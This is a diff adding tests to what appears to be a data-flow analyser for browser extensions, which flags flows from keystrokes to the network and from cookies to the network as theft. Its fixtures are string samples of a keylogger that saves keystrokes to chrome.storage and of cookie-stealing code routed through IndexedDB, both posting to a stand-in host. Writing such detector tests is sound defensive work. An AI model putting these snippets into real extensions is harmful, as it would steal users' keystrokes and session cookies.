@@ -90,4 +90,40 @@ describe('flows over storage', () => {
       flowsBetween(files).join('\n'),
     );
   });
+
+  const put: readonly (readonly [string, string])[] = [
+    ['a property', 'o.log = e.key'],
+    ['a property of a property', 'o.log[e.code] = e.key'],
+    ['an element', 'o.log.push(e.key)'],
+    ['what is assigned to it', 'Object.assign(o, { log: e.key })'],
+    ['another name of a part', 'const log = o.log; log.last = e.key'],
+  ];
+  for (const [what, change] of put)
+    it(`lead through what is read, changed in ${what}, and put back`, () => {
+      const files = (key: string): Record<string, string> => ({
+        'content.js': `addEventListener('keyup', async (e) => { const o = await chrome.storage.local.get({ log: [], at: 3 }); ${change}; o.at = Date.now(); chrome.storage.local.set(o) })`,
+        'worker.js': `chrome.storage.local.get(['${key}'], ({ ${key} }) => fetch('https://a.dev/k', { method: 'POST', body: ${key} }))`,
+      });
+      const flow = 'key-input content.js > network worker.js (theft, high)';
+      assert.ok(flowsBetween(files('log')).includes(flow), flowsBetween(files('log')).join('\n'));
+      assert.ok(!flowsBetween(files('at')).join().includes('key-input content.js > network'));
+    });
+
+  it('lead through the stores of a database', () => {
+    const write = `db.transaction('jar', 'readwrite').objectStore('jar').add(all)`;
+    const code = (store: string, read: string): string =>
+      `chrome.cookies.getAll({}, (all) => ${write}); const store = db.transaction('${store}').objectStore('${store}'); ${read}`;
+    const reads: readonly string[] = [
+      `const r = store.getAll(); r.onsuccess = () => fetch('https://a.dev', { method: 'POST', body: r.result })`,
+      `store.get(4).onsuccess = (e) => fetch('https://a.dev', { method: 'POST', body: e.target.result })`,
+      `store.index('by').openCursor().onsuccess = ({ target }) => fetch('https://a.dev', { method: 'POST', body: target.result.value })`,
+      `const all = () => new Promise((done) => { const r = store.getAll(); r.onsuccess = () => done(r.result) }); all().then((body) => fetch('https://a.dev', { method: 'POST', body }))`,
+    ];
+    const flow = 'cookies worker.js > network worker.js (theft, high)';
+    for (const read of reads) {
+      const found = flowsBetween({ 'worker.js': code('jar', read) });
+      assert.ok(found.includes(flow), `${read}: ${found.join()}`);
+      assert.ok(!flowsBetween({ 'worker.js': code('other', read) }).includes(flow), read);
+    }
+  });
 });
